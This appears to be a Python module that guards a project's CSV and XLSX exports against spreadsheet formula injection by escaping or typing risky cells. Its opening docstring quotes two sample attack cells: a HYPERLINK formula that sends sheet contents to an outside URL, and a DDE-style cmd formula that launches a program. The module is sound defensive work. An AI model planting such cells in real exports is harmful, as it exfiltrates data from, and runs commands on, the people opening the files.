"""Text a spreadsheet would run as a formula, written so that it cannot (CSV injection).

Excel, LibreOffice and Google Sheets take a cell that begins with ``=``, ``+``,
``-`` or ``@`` (or a tab or a line break before one) for a formula:
``=HYPERLINK("http://…/?"&A1)`` in a note would send the sheet's contents away
when the owner opens the download, ``+cmd|' /C calc'!A0`` would start a program.
Every CSV and XLSX machiplan hands to people passes its cells through here;
``starts_formula`` is the one definition of such a text.

- CSV has no types: such a text is written with a leading apostrophe
  (``'=SUM(A1)``), which a spreadsheet shows and never runs. ``csv_text_back``
  undoes it exactly, for the CSV that machiplan reads back (the bulk template).
  A text that already begins with apostrophes before such a character gets one
  more, so that undoing is exact for every text.
- XLSX has types: such a text is written as a string cell (openpyxl would store
  any string beginning with ``=`` as a formula) with Excel's quote prefix, so it
  shows exactly as it is and stays text when someone edits the cell.

A plain number (``-3.5``, ``12``) is data, not a formula, wherever it stands: it
is left as it is, so a negative figure stays a number. Values that are not text
(numbers, dates, None) are never touched.
"""

from __future__ import annotations

import re
from typing import Any

_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "'")
_FIRST = frozenset(_STARTS)
_FORMULA = re.compile(r"'*[=+\-@\t\r\n]")
_QUOTED = re.compile(r"''*[=+\-@\t\r\n]")
_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")


def starts_formula(value: object) -> bool:
    """True for a text a spreadsheet would run (or one that only an apostrophe keeps from it)."""
    return (
        isinstance(value, str)
        and value.startswith(_STARTS)
        and _FORMULA.match(value) is not None
        and _NUMBER.fullmatch(value) is None
    )


def csv_cell(value: Any) -> Any:
    """A value for a CSV cell: a text that would run gets a leading apostrophe."""
    return "'" + value if starts_formula(value) else value


def csv_row(values: Any) -> list[Any]:
    """``csv_cell`` of each value; most cells are told apart by their first character alone (the
    report's CSV files of 10,000 indicators hold millions)."""
    return [csv_cell(v) if isinstance(v, str) and v[:1] in _FIRST else v for v in values]


def csv_text_back(text: str) -> str:
    """The text ``csv_cell`` was given, from what it wrote."""
    return text[1:] if text.startswith("'") and _QUOTED.match(text) else text


def xlsx_cell(cell: Any) -> Any:
    """An openpyxl cell whose text would run: a string (never a formula), quote-prefixed."""
    if starts_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def xlsx_value(sheet: Any, value: Any) -> Any:
    """A value for ``sheet.append``: a text that would run as a string cell, anything else as it is."""
    if not starts_formula(value):
        return value
    from openpyxl.cell.cell import Cell

    return xlsx_cell(Cell(sheet, row=1, column=1, value=value))  # append moves it to its place


def xlsx_row(sheet: Any, values: Any) -> list[Any]:
    return [xlsx_value(sheet, v) for v in values]


def format_text(text: str) -> str:
    """``text`` as the literal part of an Excel number format (the unit in #,##0"件"): in quotes, a
    quote in it written as \\" between two quoted parts, so that a unit holding one (件", ";;;")
    cannot end the literal early and leave a format Excel cannot read or one of other sections."""
    return '"' + text.replace('"', '"\\""') + '"'
